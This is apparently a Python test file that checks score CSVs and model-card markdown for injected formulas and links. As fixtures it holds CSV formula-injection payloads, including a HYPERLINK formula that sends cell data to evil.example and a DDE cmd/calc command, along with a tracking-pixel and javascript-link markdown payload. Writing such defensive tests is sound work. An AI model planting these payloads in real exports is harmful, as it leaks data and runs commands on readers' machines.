"""Levels are chosen by whoever proposes a job: none may act where the scores or the card of its model are opened."""

from __future__ import annotations

import csv
import re

import duckdb
import numpy as np
import pytest

from federation.learning.card import ModelCard
from federation.learning.frame import Frame
from federation.learning.points import Scorer
from gateway.reports.card import card_markdown
from gateway.scoring.output import write_scores
from tests.support.models import grouped, made_model

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A2&B2)',
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "'=1+1",
    "=1+1",
]
PLAIN = ["-1", "+5%", "trade", "制造业"]
LEVELS = EVIL + PLAIN


@pytest.fixture
def model():
    weights = np.linspace(-1.0, 1.0, len(LEVELS) + 1)
    return made_model([grouped("sector", [["best"], *([x] for x in LEVELS)], list(weights))], [-1.0, 1.0], points=True)


@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_no_level_is_a_formula_in_the_scores(model, tmp_path, suffix):
    rows = Frame([f"r{i}" for i in range(len(LEVELS))], {"sector": np.array(LEVELS, dtype=object)})
    path = tmp_path / f"scores.{suffix}"
    write_scores(path, rows.ids, Scorer(model).score(rows, 1), 1, model.version)
    if suffix == "parquet":  # typed, and opened by programs: as it is
        found = [row[0] for row in duckdb.sql(f"select reason_1_bin from '{path}'").fetchall()]
        assert found == LEVELS
        return
    with path.open(newline="") as file:
        found = [row["reason_1_bin"] for row in csv.DictReader(file)]
    assert found == [f"'{level}" for level in EVIL] + PLAIN and len(set(found)) == len(LEVELS)


def test_no_text_is_a_link_or_an_image_in_the_card(model):
    evil = "![x](http://evil.example/pixel.png) [pay](javascript:alert(1)) <http://evil.example>"
    text = card_markdown(ModelCard.of(model, purpose=evil, dataset="loans", members=["a"]), evil)
    assert text.count("evil.example/pixel.png") == 2  # it is shown
    assert not re.search(r"(?<!\\)\[", text) and "<http" not in text
